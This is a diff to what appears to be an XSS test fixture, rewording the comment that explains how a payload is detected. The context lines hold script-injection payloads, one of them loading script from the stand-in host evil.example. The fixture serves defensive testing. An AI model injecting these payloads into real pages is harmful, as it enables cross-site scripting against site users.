@@ -1,4 +1,4 @@
-/** If the browser runs a payload, it sets `__hit`, opens a dialog or contacts `evil.example`. */
+/** If the browser runs a payload, the payload sets `__hit`, opens a dialog or contacts `evil.example`. */
 export const payloads = [
   '<script>__hit=1</script>',
   '<script src=//evil.example/x.js></script>',
